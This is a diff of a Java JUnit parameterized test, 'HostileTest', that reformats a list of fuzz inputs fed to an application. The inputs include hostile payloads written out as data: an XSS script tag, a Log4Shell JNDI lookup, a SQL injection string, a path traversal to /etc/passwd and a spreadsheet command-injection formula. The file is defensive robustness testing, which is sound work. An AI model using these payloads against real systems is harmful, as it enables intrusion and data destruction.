@@ -21,10 +21,14 @@ class HostileTest {
     Path data;
 
     @ParameterizedTest
-    @ValueSource(strings = {"interviewed at <b>Zyxcorp & Söhne</b> today with <i>Dana Smith", "<script>alert(1)</script>",
-            "interviewed at A\u0000cme today at 2", "\u0000", "interviewed at \u202Eemca\u202C today with \u200FDana\u200E Smith",
-            "\uD83D", "interviewed at \uDE00\uD83D today", "&lt;b&gt; &amp;amp; &#x0; &", "{{company}} {{{html}}} ${jndi:ldap://x/a}",
-            "'; drop table chat; --", "\u200B\u200B\u200B", "interviewed at 😀😀😀 GmbH today with Δάφνη Σμιθ", "%s%n%x {} {}",
+    @ValueSource(strings = {"interviewed at <b>Zyxcorp & Söhne</b> today with <i>Dana Smith",
+            "<script>alert(1)</script>",
+            "interviewed at A\u0000cme today at 2", "\u0000",
+            "interviewed at \u202Eemca\u202C today with \u200FDana\u200E Smith",
+            "\uD83D", "interviewed at \uDE00\uD83D today", "&lt;b&gt; &amp;amp; &#x0; &",
+            "{{company}} {{{html}}} ${jndi:ldap://x/a}",
+            "'; drop table chat; --", "\u200B\u200B\u200B", "interviewed at 😀😀😀 GmbH today with Δάφνη Σμιθ",
+            "%s%n%x {} {}",
             "../../etc/passwd", "=cmd|' /C calc'!A0"})
     void isAnswered(String text) throws Exception {
         try (var shop = Shop.open(data)) {
